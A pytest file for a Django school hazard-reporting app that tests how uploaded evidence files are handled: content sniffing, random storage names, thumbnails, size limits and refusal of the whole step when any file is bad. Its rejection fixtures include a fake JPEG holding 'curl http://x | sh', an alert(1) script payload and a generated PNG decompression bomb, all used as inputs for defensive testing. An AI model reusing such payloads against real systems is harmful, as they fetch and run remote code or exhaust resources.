"""Evidence files: recognised by their content, stored under random names, photos thumbnailed;
a bad file refuses the whole step and nothing is stored."""

import hashlib
import io
import re
import struct
import zipfile
import zlib

import pillow_heif
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document
from PIL import Image

from safecampus.core.roles import Role
from safecampus.hazards import evidence, services
from safecampus.hazards.choices import Action, EvidencePhase
from safecampus.hazards.models import Hazard, HazardEvidence
from safecampus.hazards.testing import jpeg_upload

from .helpers import attempt, state, temporary_media

#: an original name that must never reach the file system
SECRET_NAME = "张三家长_身份证"


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    temporary_media(settings, tmp_path)
    return tmp_path


def stored_files(root) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def image(fmt: str) -> bytes:
    buf = io.BytesIO()
    img = Image.new("RGB", (640, 480), (30, 120, 200))
    if fmt == "HEIF":
        pillow_heif.from_pillow(img).save(buf, format="HEIF", quality=50)
    else:
        img.save(buf, fmt)
    return buf.getvalue()


def docx() -> bytes:
    buf = io.BytesIO()
    doc = Document()
    doc.add_paragraph("整改报告：疏散通道杂物已清理。")
    doc.save(buf)
    return buf.getvalue()


PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"

GOOD = {
    "jpeg": (lambda: image("JPEG"), "jpg", "image/jpeg", True),
    "png": (lambda: image("PNG"), "png", "image/png", True),
    "webp": (lambda: image("WEBP"), "webp", "image/webp", True),
    "heic": (lambda: image("HEIF"), "heic", "image/heic", True),
    "pdf": (lambda: PDF, "pdf", "application/pdf", False),
    "docx": (
        docx,
        "docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        False,
    ),
}


def add(reg, hazard, *files):
    return services.hazard_act(
        actor=reg.users[Role.SCHOOL_OFFICER],
        hazard_id=hazard.pk,
        action=Action.ADD_EVIDENCE,
        version=hazard.version,
        files=list(files),
    )


@pytest.mark.parametrize("kind", GOOD)
def test_a_photo_or_document_is_accepted_under_a_random_name(reg, media, kind):
    make, ext, content_type, thumbnailed = GOOD[kind]
    data = make()
    hazard = add(reg, reg.make(), SimpleUploadedFile(f"{SECRET_NAME}.{ext}", data))
    ev = hazard.evidence.get()
    folder = rf"evidence/{reg.bureau.pk}/\d{{4}}/\d{{2}}/"
    assert re.fullmatch(rf"{folder}[0-9a-f]{{32}}\.{ext}", ev.file.name)
    assert (ev.original_name, ev.content_type, ev.size) == (
        f"{SECRET_NAME}.{ext}",
        content_type,
        len(data),
    )
    assert ev.sha256 == hashlib.sha256(data).hexdigest()
    assert ev.file.read() == data
    assert (ev.phase, ev.event, ev.uploaded_by) == (
        EvidencePhase.BEFORE,
        hazard.events.last(),
        reg.users[Role.SCHOOL_OFFICER],
    )
    if thumbnailed:
        assert re.fullmatch(rf"{folder}[0-9a-f]{{32}}-thumb\.jpg", ev.thumbnail.name)
        with Image.open(ev.thumbnail) as thumb:
            assert (thumb.format, thumb.size) == ("JPEG", (320, 240))
    else:
        assert ev.thumbnail.name == ""
    assert len(stored_files(media)) == (2 if thumbnailed else 1)
    assert not any(SECRET_NAME in name for name in stored_files(media))


def test_files_of_a_report_are_kept_as_before_evidence(reg, media):
    hazard = services.hazard_report(
        actor=reg.users[Role.SCHOOL_OFFICER],
        school=reg.school_a,
        item=reg.item,
        data={"description": "楼梯扶手松动", "responsible_person": "王老师"},
        files=[jpeg_upload(f"{SECRET_NAME}.jpg"), SimpleUploadedFile("说明.pdf", PDF)],
    )
    assert [(e.phase, e.content_type, e.event_id) for e in hazard.evidence.all()] == [
        (EvidencePhase.BEFORE, "image/jpeg", hazard.events.get().pk),
        (EvidencePhase.BEFORE, "application/pdf", hazard.events.get().pk),
    ]
    assert len(stored_files(media)) == 3


def png_bomb() -> bytes:
    """69 bytes that claim 30000 × 30000 pixels (a decompression bomb)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", 30000, 30000, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 100))
        + chunk(b"IEND", b"")
    )


def zip_without_office_parts() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("payload.sh", "#!/bin/sh\n")
    return buf.getvalue()


BAD = {
    "script_named_jpg": ("照片.jpg", b"#!/bin/sh\ncurl http://x | sh\n"),
    "html_named_png": ("图.png", b"<html><script>alert(1)</script></html>"),
    "jpeg_magic_then_garbage": ("照片.jpg", b"\xff\xd8\xff\xe0" + b"\x00garbage" * 64),
    "png_magic_then_garbage": ("图.png", b"\x89PNG\r\n\x1a\n" + b"garbage" * 64),
    "heic_magic_then_garbage": ("IMG_0001.HEIC", b"\x00\x00\x00\x18ftypheic" + b"\x00" * 200),
    "png_bomb": ("全景.png", png_bomb()),
    "zip_named_docx": ("报告.docx", zip_without_office_parts()),
    "empty": ("空.pdf", b""),
}


@pytest.mark.parametrize("kind", BAD)
def test_a_file_that_is_not_what_it_claims_is_refused(reg, media, kind):
    # Given a hazard and, next to a good photo, a file whose content is not an accepted kind
    name, data = BAD[kind]
    hazard = reg.make()
    before = state(hazard)
    # When both are added in one step
    files = [jpeg_upload(), SimpleUploadedFile(name, data)]
    outcome = attempt(reg.users[Role.SCHOOL_OFFICER], hazard, Action.ADD_EVIDENCE, files=files)
    # Then the step is refused and nothing is stored, not even the good photo
    assert outcome == "evidence_invalid"
    assert state(hazard) == before
    assert stored_files(media) == []


def test_a_report_with_a_bad_file_is_not_saved(reg, media):
    with pytest.raises(ValidationError) as exc:
        services.hazard_report(
            actor=reg.users[Role.SCHOOL_OFFICER],
            school=reg.school_a,
            item=reg.item,
            data={"description": "楼梯扶手松动", "responsible_person": "王老师"},
            files=[SimpleUploadedFile("照片.jpg", b"MZ\x90\x00 not a photo")],
        )
    assert (exc.value.code, set(exc.value.error_dict)) == ("evidence_invalid", {"files"})
    assert (Hazard.objects.count(), HazardEvidence.objects.count()) == (0, 0)
    assert stored_files(media) == []


def test_a_file_over_20_mb_is_refused(reg, media):
    hazard = reg.make()
    before = state(hazard)
    big = jpeg_upload()
    big.size = 20 * 1024 * 1024 + 1
    outcome = attempt(reg.users[Role.SCHOOL_OFFICER], hazard, Action.ADD_EVIDENCE, files=[big])
    assert outcome == "evidence_too_large"
    assert state(hazard) == before
    assert stored_files(media) == []


def test_the_size_limit_is_inclusive(reg, media, monkeypatch):
    data = PDF + b"%" * 100
    monkeypatch.setattr(evidence, "MAX_EVIDENCE_BYTES", len(data))
    hazard = add(reg, reg.make(), SimpleUploadedFile("刚好.pdf", data))
    assert hazard.evidence.get().size == len(data)
    monkeypatch.setattr(evidence, "MAX_EVIDENCE_BYTES", len(data) - 1)
    with pytest.raises(ValidationError) as exc:
        evidence.check_upload(SimpleUploadedFile("超出.pdf", data))
    assert exc.value.code == "evidence_too_large"
